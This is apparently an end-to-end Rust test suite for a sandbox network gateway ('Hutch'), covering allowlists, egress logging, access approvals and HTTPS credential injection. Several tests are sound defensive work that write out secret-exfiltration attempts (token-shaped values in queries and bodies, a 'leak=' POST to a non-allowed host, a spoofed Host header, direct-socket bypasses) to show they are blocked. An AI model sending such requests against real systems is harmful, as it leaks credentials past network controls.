//! Sandbox networking end to end (root): real sandboxes in mode `allowlist` reach a fake
//! internet through Hutch's gateway. The "internet" is HTTP servers on the host's loopback,
//! named through the server's `network.hosts` and allowed as upstreams by `allow_upstream`;
//! no traffic goes anywhere else.

mod common;
#[path = "common/runner.rs"]
mod runner;

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use common::{TestServer, assert_error, eventually};
use http_body_util::{BodyExt, Full};
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

fn main() {
    let all: &[(&str, runner::TestFn)] = runner::tests![
        allowlist_http_via_proxy_and_dns,
        blocked_requests_and_no_direct_route,
        live_policy_update_keeps_open_connection,
        access_request_approved_and_denied,
        egress_log_pages_and_streams,
        restart_restores_networks,
        invalid_network_specs,
        mode_switch_on_a_running_sandbox,
        https_interception_and_credential_injection,
    ];
    runner::main(all);
}

/// What the fake upstream saw.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    path: String,
    headers: BTreeMap<String, String>,
    body: Vec<u8>,
}

/// An HTTP server on 127.0.0.1 answering `<name> <path>`, recording requests.
async fn upstream(name: &'static str) -> (SocketAddr, Arc<Mutex<Vec<Seen>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((stream, _)) = listener.accept().await else {
                return;
            };
            let log = log.clone();
            tokio::spawn(async move {
                let svc = service_fn(move |req: hyper::Request<hyper::body::Incoming>| {
                    let log = log.clone();
                    async move {
                        let (parts, body) = req.into_parts();
                        let body = body
                            .collect()
                            .await
                            .map(|b| b.to_bytes())
                            .unwrap_or_default();
                        log.lock().unwrap().push(Seen {
                            method: parts.method.to_string(),
                            path: parts.uri.path().to_owned(),
                            headers: parts
                                .headers
                                .iter()
                                .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_owned()))
                                .collect(),
                            body: body.to_vec(),
                        });
                        let text = format!("{name} {}", parts.uri.path());
                        Ok::<_, Infallible>(hyper::Response::new(Full::new(Bytes::from(text))))
                    }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), svc)
                    .await;
            });
        }
    });
    (addr, seen)
}

struct Net {
    s: TestServer,
    api: Arc<Mutex<Vec<Seen>>>,
    other: Arc<Mutex<Vec<Seen>>>,
    api_addr: SocketAddr,
}

fn net_config(
    dir: &std::path::Path,
    pool: &str,
    api: SocketAddr,
    other: SocketAddr,
) -> hutch_server::ServerConfig {
    let mut cfg = common::config(dir.to_path_buf(), Some(std::env::current_exe().unwrap()));
    cfg.network.pool = pool.to_owned();
    cfg.network.allow_upstream = vec!["127.0.0.1/32".into()];
    cfg.network.hosts = BTreeMap::from([
        ("api.fake.test".to_owned(), vec![api.to_string()]),
        ("other.fake.test".to_owned(), vec![other.to_string()]),
    ]);
    cfg
}

async fn net_server(pool: &str) -> Net {
    let (api_addr, api) = upstream("api").await;
    let (other_addr, other) = upstream("other").await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = net_config(dir.path(), pool, api_addr, other_addr);
    let s = TestServer::start_with(dir, cfg).await;
    Net {
        s,
        api,
        other,
        api_addr,
    }
}

/// The in-sandbox client: `python3 /tmp/get.py URL [direct] [METHOD] [BODY] [HEADER=VALUE...]`
/// prints `STATUS BODY-or-block-reason`.
const GET_PY: &str = r#"
import sys, urllib.request, urllib.error
url = sys.argv[1]
direct = len(sys.argv) > 2 and sys.argv[2] == "direct"
method = sys.argv[3] if len(sys.argv) > 3 else "GET"
data = sys.argv[4].encode() if len(sys.argv) > 4 and sys.argv[4] else None
headers = dict(a.split("=", 1) for a in sys.argv[5:])
opener = urllib.request.build_opener(urllib.request.ProxyHandler({})) if direct else urllib.request.build_opener()
try:
    r = opener.open(urllib.request.Request(url, data=data, headers=headers, method=method), timeout=10)
    print(r.status, r.read().decode())
except urllib.error.HTTPError as e:
    print(e.code, e.headers.get("x-hutch-block-reason"))
except Exception as e:
    print("ERR", type(e).__name__, e)
"#;

async fn create_net(s: &TestServer, allow: Value) -> String {
    let (st, sb) = s
        .post(
            "/v1/sandboxes",
            &s.admin,
            json!({ "network": { "mode": "allowlist", "allow": allow } }),
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{sb}");
    let id = sb["id"].as_str().unwrap().to_owned();
    put_file(s, &id, "/tmp/get.py", GET_PY).await;
    id
}

async fn put_file(s: &TestServer, id: &str, path: &str, content: &str) {
    let resp = s
        .req(
            Method::PUT,
            &format!("/v1/sandboxes/{id}/files?path={path}"),
            Some(&s.admin),
        )
        .body(content.to_owned())
        .send()
        .await
        .unwrap();
    assert!(resp.status().is_success(), "{}", resp.status());
}

async fn sh(s: &TestServer, id: &str, command: &str) -> String {
    let (st, run) = s
        .post(
            &format!("/v1/sandboxes/{id}/exec"),
            &s.admin,
            json!({ "command": command, "timeout_ms": 30000 }),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{run}");
    format!(
        "{}{}",
        run["stdout"].as_str().unwrap_or(""),
        run["stderr"].as_str().unwrap_or("")
    )
}

async fn get(s: &TestServer, id: &str, args: &str) -> String {
    sh(s, id, &format!("python3 /tmp/get.py {args}"))
        .await
        .trim()
        .to_owned()
}

async fn allowlist_http_via_proxy_and_dns() {
    let n = net_server("10.210.0.0/24").await;
    let s = &n.s;
    let id = create_net(s, json!(["api.fake.test"])).await;
    // Through the proxy (HTTP_PROXY is set in the sandbox) and transparently (DNS → gateway).
    assert_eq!(get(s, &id, "http://api.fake.test/a").await, "200 api /a");
    assert_eq!(
        get(s, &id, "http://api.fake.test/b direct").await,
        "200 api /b"
    );
    let seen: Vec<String> = n
        .api
        .lock()
        .unwrap()
        .iter()
        .map(|r| r.path.clone())
        .collect();
    assert_eq!(seen, vec!["/a", "/b"]);
    // The sandbox's view: its own address, the gateway as resolver and proxy.
    let (st, info) = s
        .get(&format!("/v1/sandboxes/{id}/network"), &s.admin)
        .await;
    assert_eq!(st, StatusCode::OK, "{info}");
    let gw = info["gateway"].as_str().unwrap().to_owned();
    assert!(gw.starts_with("10.210.0."), "{info}");
    assert_eq!(info["network"]["allow"], json!(["api.fake.test"]));
    let resolv = sh(s, &id, "cat /etc/resolv.conf").await;
    assert!(resolv.contains(&format!("nameserver {gw}")), "{resolv}");
    let env = sh(s, &id, "echo $HTTP_PROXY").await;
    assert_eq!(env.trim(), format!("http://{gw}:3128"));
    // A sandbox without a network still has only loopback.
    let (st, plain) = s.post("/v1/sandboxes", &s.admin, json!({})).await;
    assert_eq!(st, StatusCode::CREATED);
    let devs = sh(s, plain["id"].as_str().unwrap(), "cat /proc/net/dev").await;
    assert!(devs.contains("lo:") && !devs.contains("eth0"), "{devs}");
    let devs = sh(s, &id, "cat /proc/net/dev").await;
    assert!(devs.contains("eth0"), "{devs}");
    s.delete(&format!("/v1/sandboxes/{id}"), &s.admin).await;
    // The link goes away with the sandbox (the kernel and a background delete race for it).
    let link = format!("/sys/class/net/{}", hutch_net::netns::host_ifname(&id));
    eventually("the link to go", Duration::from_secs(10), || async {
        (!std::path::Path::new(&link).exists()).then_some(())
    })
    .await;
}

async fn blocked_requests_and_no_direct_route() {
    let n = net_server("10.210.1.0/24").await;
    let s = &n.s;
    let id = create_net(s, json!(["api.fake.test"])).await;
    let r = get(s, &id, "http://other.fake.test/x").await;
    assert!(
        r.starts_with("403 ") && r.contains("not in the sandbox's allowlist"),
        "{r}"
    );
    let r = get(s, &id, "http://other.fake.test/x direct").await;
    // A resolver failure (getaddrinfo's negative errno), not some other error.
    assert!(
        r.starts_with("ERR URLError") && r.contains("Errno -"),
        "DNS refuses names outside the allowlist: {r}"
    );
    // A secret in the query string (AWS access key id shape).
    let r = get(s, &id, "'http://api.fake.test/q?k=AKIAIOSFODNN7EXAMPLF'").await;
    assert!(
        r.starts_with("403 ") && r.to_lowercase().contains("secret"),
        "{r}"
    );
    // A secret in the body.
    let r = get(
        s,
        &id,
        "http://api.fake.test/p '' POST 'token=ghp_0123456789abcdefghijABCDEFGHIJ012345'",
    )
    .await;
    assert!(r.starts_with("403 "), "{r}");
    assert!(
        n.api.lock().unwrap().is_empty(),
        "nothing blocked reached upstream"
    );
    assert!(
        n.other.lock().unwrap().is_empty(),
        "nothing reached the host not allowed"
    );
    // A clean body goes through intact.
    assert_eq!(
        get(s, &id, "http://api.fake.test/c '' POST 'hello=world'").await,
        "200 api /c"
    );
    let seen = n.api.lock().unwrap().last().cloned().unwrap();
    assert_eq!(
        seen.headers.get("host").map(String::as_str),
        Some("api.fake.test")
    );
    assert_eq!(
        (seen.method.as_str(), seen.body.as_slice()),
        ("POST", &b"hello=world"[..])
    );
    // No direct route: the upstream's port on the gateway address, and a raw IP.
    let gw = sh(s, &id, "awk '/nameserver/{print $2}' /etc/resolv.conf").await;
    let py = format!(
        "import socket\nfor a in [('{}', {}), ('{}', 22)]:\n    s = socket.socket(); s.settimeout(2)\n    try:\n        s.connect(a); print('CONNECTED', a)\n    except Exception as e:\n        print('refused', a)\n",
        gw.trim(),
        n.api_addr.port(),
        gw.trim()
    );
    put_file(s, &id, "/tmp/direct.py", &py).await;
    let out = sh(s, &id, "python3 /tmp/direct.py").await;
    assert_eq!(out.matches("refused").count(), 2, "{out}");
    assert!(!out.contains("CONNECTED"), "{out}");
    // IP literal with a spoofed Host header through the proxy: refused before any connection.
    let r = get(s, &id, "http://203.0.113.9/ '' GET '' Host=api.fake.test").await;
    assert!(r.starts_with("403 "), "{r}");
}

async fn live_policy_update_keeps_open_connection() {
    let n = net_server("10.210.2.0/24").await;
    let s = &n.s;
    let id = create_net(s, json!(["api.fake.test"])).await;
    // One keep-alive connection to the proxy: a request, a wait for the test, two more.
    let py = r#"
import http.client, os, time
proxy = os.environ["HTTP_PROXY"].split("//")[1]
h, p = proxy.split(":")
c = http.client.HTTPConnection(h, int(p), timeout=10)
def get(url):
    c.request("GET", url); r = c.getresponse(); return r.status, r.read().decode()
print("first", get("http://api.fake.test/1"), flush=True)
while not os.path.exists("/tmp/go"):
    time.sleep(0.02)
print("second", get("http://api.fake.test/2"), flush=True)
print("third", get("http://other.fake.test/3"), flush=True)
"#;
    put_file(s, &id, "/tmp/keep.py", py).await;
    let (st, p) = s
        .post(
            &format!("/v1/sandboxes/{id}/processes"),
            &s.admin,
            json!({ "command": "python3 /tmp/keep.py > /tmp/keep.out 2>&1" }),
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{p}");
    let pid = p["id"].as_str().unwrap().to_owned();
    eventually("first request", Duration::from_secs(20), || async {
        (n.api.lock().unwrap().len() == 1).then_some(())
    })
    .await;
    let started = Instant::now();
    let (st, body) = s
        .call(
            Method::PUT,
            &format!("/v1/sandboxes/{id}/network"),
            &s.admin,
            Some(json!({ "mode": "allowlist", "allow": ["api.fake.test", "other.fake.test"] })),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{body}");
    // Applied by the time the call returns; a new connection sees it at once.
    let r = get(s, &id, "http://other.fake.test/now").await;
    println!("policy applied and used in {:?}", started.elapsed());
    assert_eq!(r, "200 other /now");
    put_file(s, &id, "/tmp/go", "").await;
    let (st, done) = s
        .call(
            Method::POST,
            &format!("/v1/sandboxes/{id}/processes/{pid}/wait?timeout_ms=20000"),
            &s.admin,
            None,
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{done}");
    let text = sh(s, &id, "cat /tmp/keep.out").await;
    assert!(text.contains("second (200, 'api /2')"), "{text}");
    assert!(text.contains("third (200, 'other /3')"), "{text}");
    // Taking a host away applies the same way.
    let (st, _) = s
        .call(
            Method::PUT,
            &format!("/v1/sandboxes/{id}/network"),
            &s.admin,
            Some(json!({ "mode": "allowlist", "allow": [] })),
        )
        .await;
    assert_eq!(st, StatusCode::OK);
    assert!(
        get(s, &id, "http://api.fake.test/x")
            .await
            .starts_with("403")
    );
    let (_, events) = s
        .get(
            &format!("/v1/events?sandbox_id={id}&type=sandbox.network_updated"),
            &s.admin,
        )
        .await;
    assert_eq!(events["items"].as_array().unwrap().len(), 2, "{events}");
}

async fn access_request_approved_and_denied() {
    let n = net_server("10.210.3.0/24").await;
    let s = &n.s;
    let id = create_net(s, json!(["api.fake.test"])).await;
    assert!(
        get(s, &id, "http://other.fake.test/data")
            .await
            .starts_with("403")
    );
    // The agent asks, then waits for the decision in the background.
    let ask = r#"
import json, sys, urllib.request
body = json.dumps({"host": "other.fake.test", "path": "/data", "justification": "need the dataset"}).encode()
r = urllib.request.urlopen(urllib.request.Request("http://hutch.internal/v1/access-requests", data=body, headers={"content-type": "application/json"}), timeout=10)
a = json.load(r)
print("asked", a["id"], a["state"], flush=True)
r = urllib.request.urlopen("http://hutch.internal/v1/access-requests/%s?wait=60" % a["id"], timeout=70)
print("decided", json.load(r)["state"], flush=True)
"#;
    put_file(s, &id, "/tmp/ask.py", ask).await;
    let (st, p) = s
        .post(
            &format!("/v1/sandboxes/{id}/processes"),
            &s.admin,
            json!({ "command": "python3 /tmp/ask.py > /tmp/ask.out 2>&1" }),
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{p}");
    let pid = p["id"].as_str().unwrap().to_owned();
    let pending = eventually("the access request", Duration::from_secs(20), || async {
        let (_, page) = s.get("/v1/approvals?state=pending", &s.admin).await;
        page["items"].as_array().and_then(|a| a.first().cloned())
    })
    .await;
    assert_eq!(pending["host"], "other.fake.test");
    assert_eq!(pending["sandbox_id"], id.as_str());
    assert_eq!(pending["justification"], "need the dataset");
    let aid = pending["id"].as_str().unwrap().to_owned();
    // Narrowing outside the request is refused; a narrowing inside it is granted.
    let (st, body) = s
        .post(
            &format!("/v1/approvals/{aid}/approve"),
            &s.admin,
            json!({ "host": "evil.test" }),
        )
        .await;
    assert_error(st, &body, 422, "invalid_argument");
    let (st, body) = s
        .post(
            &format!("/v1/approvals/{aid}/approve"),
            &s.admin,
            json!({ "path": "/data/v1", "note": "ok" }),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{body}");
    assert_eq!(body["state"], "approved");
    let (st, body) = s
        .post(&format!("/v1/approvals/{aid}/deny"), &s.admin, json!({}))
        .await;
    assert_error(st, &body, 409, "conflict");
    let (_, done) = s
        .call(
            Method::POST,
            &format!("/v1/sandboxes/{id}/processes/{pid}/wait?timeout_ms=30000"),
            &s.admin,
            None,
        )
        .await;
    let out = sh(s, &id, "cat /tmp/ask.out").await;
    assert!(out.contains("decided approved"), "{done} {out}");
    assert_eq!(
        get(s, &id, "http://other.fake.test/data/v1/x").await,
        "200 other /data/v1/x"
    );
    assert!(
        get(s, &id, "http://other.fake.test/private")
            .await
            .starts_with("403")
    );
    // A denied request stays denied.
    let body = json!({"host": "nope.fake.test", "justification": "x"}).to_string();
    let r = sh(s, &id, &format!("python3 -c \"import urllib.request as u; print(u.urlopen(u.Request('http://hutch.internal/v1/access-requests', data=b'{}', method='POST'), timeout=5).status)\"", body.replace('"', "\\\""))).await;
    assert!(r.contains("201"), "{r}");
    let (_, page) = s.get("/v1/approvals?state=pending", &s.admin).await;
    let aid2 = page["items"][0]["id"].as_str().unwrap().to_owned();
    let (st, body) = s
        .post(
            &format!("/v1/approvals/{aid2}/deny"),
            &s.admin,
            json!({ "note": "no" }),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{body}");
    assert_eq!(body["state"], "denied");
    let (_, ev) = s
        .get(&format!("/v1/events?sandbox_id={id}"), &s.admin)
        .await;
    let types: Vec<&str> = ev["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["type"].as_str())
        .collect();
    for t in ["approval.requested", "approval.approved", "approval.denied"] {
        assert!(types.contains(&t), "{types:?}");
    }
    // Another team sees none of it.
    let (_, other_key) = s.team_key("other").await;
    let (st, body) = s.get(&format!("/v1/approvals/{aid}"), &other_key).await;
    assert_error(st, &body, 404, "not_found");
}

async fn egress_log_pages_and_streams() {
    let n = net_server("10.210.4.0/24").await;
    let s = &n.s;
    let id = create_net(s, json!(["api.fake.test"])).await;
    // Follow the log while traffic happens.
    let mut stream = s
        .req(
            Method::GET,
            &format!("/v1/sandboxes/{id}/egress?follow=true"),
            Some(&s.admin),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(stream.status(), StatusCode::OK);
    get(s, &id, "http://api.fake.test/logged").await;
    get(s, &id, "http://other.fake.test/denied").await;
    let mut buf = String::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !(buf.contains("/logged") && buf.contains("/denied")) {
        assert!(Instant::now() < deadline, "stream: {buf}");
        if let Ok(Ok(Some(chunk))) =
            tokio::time::timeout(Duration::from_secs(5), stream.chunk()).await
        {
            buf.push_str(&String::from_utf8_lossy(&chunk));
        }
    }
    assert!(buf.contains("event: egress"), "{buf}");
    let entries = eventually("egress entries", Duration::from_secs(10), || async {
        let (_, page) = s
            .get(&format!("/v1/sandboxes/{id}/egress?limit=500"), &s.admin)
            .await;
        let items = page["items"].as_array().cloned().unwrap_or_default();
        (items.iter().filter(|e| e["kind"] != "dns").count() >= 2).then_some(items)
    })
    .await;
    let allowed = entries
        .iter()
        .find(|e| e["path"] == "/logged")
        .expect("allowed entry");
    assert_eq!(allowed["decision"], "allow");
    assert_eq!(allowed["host"], "api.fake.test");
    assert_eq!(allowed["status"], 200);
    let denied = entries
        .iter()
        .find(|e| e["path"] == "/denied")
        .expect("denied entry");
    assert_eq!(denied["decision"], "deny");
    assert!(
        denied["reason"].as_str().unwrap().contains("allowlist"),
        "{denied}"
    );
    // Pagination.
    let (_, p1) = s
        .get(&format!("/v1/sandboxes/{id}/egress?limit=1"), &s.admin)
        .await;
    let cursor = p1["next_cursor"].as_str().unwrap().to_owned();
    let (_, p2) = s
        .get(
            &format!("/v1/sandboxes/{id}/egress?limit=1&after={cursor}"),
            &s.admin,
        )
        .await;
    assert_ne!(p1["items"][0]["seq"], p2["items"][0]["seq"]);
}

async fn restart_restores_networks() {
    let (api_addr, api) = upstream("api").await;
    let (other_addr, _other) = upstream("other").await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = net_config(dir.path(), "10.210.5.0/24", api_addr, other_addr);
    let s = TestServer::start_with(dir, cfg.clone()).await;
    let id = create_net(&s, json!(["api.fake.test"])).await;
    assert_eq!(
        get(&s, &id, "http://api.fake.test/before").await,
        "200 api /before"
    );
    let dir = s.stop().await;
    let s = TestServer::start_with(dir, cfg).await;
    assert_eq!(
        get(&s, &id, "http://api.fake.test/after").await,
        "200 api /after"
    );
    assert!(
        get(&s, &id, "http://other.fake.test/x")
            .await
            .starts_with("403")
    );
    assert_eq!(api.lock().unwrap().len(), 2);
    s.delete(&format!("/v1/sandboxes/{id}"), &s.admin).await;
}

async fn invalid_network_specs() {
    let n = net_server("10.210.6.0/24").await;
    let s = &n.s;
    for bad in [
        json!({ "mode": "bogus" }),
        json!({ "mode": "none", "allow": ["a.com"] }),
        json!({ "mode": "allowlist", "allow": ["not a domain"] }),
        json!({ "mode": "allowlist", "allow": [{ "domain": "a.com", "cidr": "10.0.0.0/8" }] }),
        json!({ "mode": "allowlist", "allow": ["a.com"], "credentials": [{ "secret": "k", "host": "b.com" }] }),
    ] {
        let (st, body) = s
            .post("/v1/sandboxes", &s.admin, json!({ "network": bad }))
            .await;
        assert_error(st, &body, 422, "invalid_argument");
    }
    let (st, body) = s
        .post(
            "/v1/sandboxes",
            &s.admin,
            json!({ "network": { "mode": "allowlist", "unknown": 1 } }),
        )
        .await;
    assert_error(st, &body, 422, "invalid_argument");
    // Rules that do not validate change nothing.
    let (_, sb) = s.post("/v1/sandboxes", &s.admin, json!({})).await;
    let id = sb["id"].as_str().unwrap();
    let (st, body) = s
        .call(
            Method::PUT,
            &format!("/v1/sandboxes/{id}/network"),
            &s.admin,
            Some(json!({ "mode": "allowlist", "allow": ["bad domain"] })),
        )
        .await;
    assert_error(st, &body, 422, "invalid_argument");
    let (_, got) = s.get(&format!("/v1/sandboxes/{id}"), &s.admin).await;
    assert_eq!(got["network"]["mode"], "none");
}

async fn mode_switch_on_a_running_sandbox() {
    let n = net_server("10.210.7.0/24").await;
    let s = &n.s;
    let (st, sb) = s.post("/v1/sandboxes", &s.admin, json!({})).await;
    assert_eq!(st, StatusCode::CREATED, "{sb}");
    let id = sb["id"].as_str().unwrap().to_owned();
    put_file(s, &id, "/tmp/get.py", GET_PY).await;
    assert!(!sh(s, &id, "cat /proc/net/dev").await.contains("eth0"));
    let (st, body) = s
        .call(
            Method::PUT,
            &format!("/v1/sandboxes/{id}/network"),
            &s.admin,
            Some(json!({ "mode": "allowlist", "allow": ["api.fake.test"] })),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{body}");
    assert!(body["gateway"].is_string(), "{body}");
    // No proxy variables in this sandbox: DNS and the transparent listener carry it.
    assert_eq!(
        get(s, &id, "http://api.fake.test/late direct").await,
        "200 api /late"
    );
    let r = get(s, &id, "http://other.fake.test/ direct").await;
    assert!(
        r.starts_with("ERR URLError") && r.contains("Errno -"),
        "{r}"
    );
    let (st, _) = s
        .call(
            Method::PUT,
            &format!("/v1/sandboxes/{id}/network"),
            &s.admin,
            Some(json!({ "mode": "none" })),
        )
        .await;
    assert_eq!(st, StatusCode::OK);
    assert!(!sh(s, &id, "cat /proc/net/dev").await.contains("eth0"));
    let (_, got) = s
        .get(&format!("/v1/sandboxes/{id}/network"), &s.admin)
        .await;
    assert_eq!(got["network"]["mode"], "none");
    assert!(got.get("gateway").is_none(), "{got}");
}

/// A test CA and an HTTPS server on loopback for `secure.fake.test` that answers
/// `secure <path> auth=ok|<what it got>` (never echoing a good credential back).
async fn https_upstream(
    dir: &std::path::Path,
    expect_auth: &'static str,
) -> (SocketAddr, std::path::PathBuf) {
    use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair};
    let mut params = CertificateParams::new(Vec::<String>::new()).unwrap();
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params
        .distinguished_name
        .push(DnType::CommonName, "Fake internet CA");
    let ca = CertifiedIssuer::self_signed(params, KeyPair::generate().unwrap()).unwrap();
    let key = KeyPair::generate().unwrap();
    let leaf = CertificateParams::new(vec!["secure.fake.test".to_string()])
        .unwrap()
        .signed_by(&key, &*ca)
        .unwrap();
    let ca_file = dir.join("fake-internet-ca.pem");
    std::fs::write(&ca_file, ca.pem()).unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let cfg = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
        )
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(cfg));
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((s, _)) = l.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(s).await else {
                    return;
                };
                let svc = service_fn(
                    move |req: hyper::Request<hyper::body::Incoming>| async move {
                        let auth = req
                            .headers()
                            .get("authorization")
                            .and_then(|v| v.to_str().ok())
                            .unwrap_or("-")
                            .to_owned();
                        let shown = if auth == expect_auth {
                            "ok".to_owned()
                        } else {
                            auth
                        };
                        let text = format!("secure {} auth={shown}", req.uri().path());
                        Ok::<_, Infallible>(hyper::Response::new(Full::new(Bytes::from(text))))
                    },
                );
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(tls), svc)
                    .await;
            });
        }
    });
    (addr, ca_file)
}

const SECRET: &str = "sk-live-0123456789abcdefXYZ";

async fn https_interception_and_credential_injection() {
    let (api_addr, api) = upstream("api").await;
    let (other_addr, other) = upstream("other").await;
    let dir = tempfile::tempdir().unwrap();
    let (secure_addr, ca_file) =
        https_upstream(dir.path(), "Bearer sk-live-0123456789abcdefXYZ").await;
    let mut cfg = net_config(dir.path(), "10.210.8.0/24", api_addr, other_addr);
    cfg.network.upstream_ca_files = vec![ca_file];
    cfg.network
        .hosts
        .insert("secure.fake.test".into(), vec![secure_addr.to_string()]);
    let s = TestServer::start_with(dir, cfg).await;
    let (st, body) = s
        .post(
            "/v1/secrets",
            &s.admin,
            json!({ "name": "svc-token", "value": SECRET,
                    "hosts": ["secure.fake.test", "api.fake.test"] }),
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{body}");
    // A binding to a host the secret does not list is refused (it could echo the value back).
    let (st, body) = s
        .post(
            "/v1/sandboxes",
            &s.admin,
            json!({ "network": { "mode": "allowlist", "allow": ["other.fake.test"],
                "credentials": [{ "secret": "svc-token", "host": "other.fake.test" }] } }),
        )
        .await;
    assert_error(st, &body, 422, "invalid_argument");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("may only be sent to"),
        "{body}"
    );
    let (st, sb) = s
        .post(
            "/v1/sandboxes",
            &s.admin,
            json!({ "network": {
                "mode": "allowlist",
                "allow": ["api.fake.test", "other.fake.test", "secure.fake.test"],
                "credentials": [
                    { "secret": "svc-token", "host": "secure.fake.test", "env": "SVC_TOKEN" },
                    { "secret": "svc-token", "host": "api.fake.test", "header": "x-api-key",
                      "template": "{secret}", "env": "SVC_KEY" }
                ]
            } }),
        )
        .await;
    assert_eq!(st, StatusCode::CREATED, "{sb}");
    assert!(!sb.to_string().contains(SECRET));
    let id = sb["id"].as_str().unwrap().to_owned();
    put_file(&s, &id, "/tmp/get.py", GET_PY).await;
    // The sandbox holds placeholders and trusts the installation's CA.
    let env = sh(&s, &id, "echo $SVC_TOKEN $SSL_CERT_FILE; ls /etc/hutch").await;
    assert!(
        env.starts_with("hutch_ph_") && !env.contains(SECRET),
        "{env}"
    );
    assert!(
        env.contains("/etc/ssl/certs/ca-certificates.crt") && env.contains("ca.crt"),
        "{env}"
    );
    // HTTPS through the proxy (CONNECT, intercepted) and through DNS → :443: the upstream sees
    // the real credential, put there by the gateway.
    let auth = "'Authorization=Bearer $SVC_TOKEN'".replace('\'', "\"");
    assert_eq!(
        get(
            &s,
            &id,
            &format!("https://secure.fake.test/p '' GET '' {auth}")
        )
        .await,
        "200 secure /p auth=ok"
    );
    assert_eq!(
        get(
            &s,
            &id,
            &format!("https://secure.fake.test/d direct GET '' {auth}")
        )
        .await,
        "200 secure /d auth=ok"
    );
    // Never over plain HTTP: refused rather than sent with the value in clear.
    let r = get(
        &s,
        &id,
        "http://api.fake.test/k '' GET '' \"x-api-key=$SVC_KEY\"",
    )
    .await;
    assert!(r.starts_with("403 ") && r.contains("HTTPS"), "{r}");
    assert!(
        api.lock().unwrap().is_empty(),
        "nothing reached the plain-HTTP host"
    );
    // The placeholder sent anywhere else is exfiltration; so is the real value.
    let r = get(
        &s,
        &id,
        "http://other.fake.test/x '' GET '' \"Authorization=Bearer $SVC_TOKEN\"",
    )
    .await;
    assert!(r.starts_with("403 ") && r.contains("svc-token"), "{r}");
    let r = get(
        &s,
        &id,
        &format!("http://other.fake.test/y '' POST 'leak={SECRET}'"),
    )
    .await;
    assert!(r.starts_with("403 "), "{r}");
    assert!(
        other.lock().unwrap().is_empty(),
        "nothing reached the other host"
    );
    // The secret never shows in the API: spec, network info, events, egress log.
    for path in [
        format!("/v1/sandboxes/{id}"),
        format!("/v1/sandboxes/{id}/network"),
        format!("/v1/events?sandbox_id={id}"),
        format!("/v1/sandboxes/{id}/egress?limit=500"),
    ] {
        let (_, v) = s.get(&path, &s.admin).await;
        assert!(!v.to_string().contains(SECRET), "{path}: {v}");
    }
    // Rotating the secret reaches the running sandbox's injection.
    let (st, _) = s
        .call(
            Method::PUT,
            "/v1/secrets/svc-token",
            &s.admin,
            Some(json!({ "value": "sk-live-rotated-000000000" })),
        )
        .await;
    assert_eq!(st, StatusCode::OK);
    let r = eventually("rotated credential", Duration::from_secs(10), || async {
        let r = get(
            &s,
            &id,
            &format!("https://secure.fake.test/r '' GET '' {auth}"),
        )
        .await;
        r.contains("rotated").then_some(r)
    })
    .await;
    assert_eq!(r, "200 secure /r auth=Bearer sk-live-rotated-000000000");
}
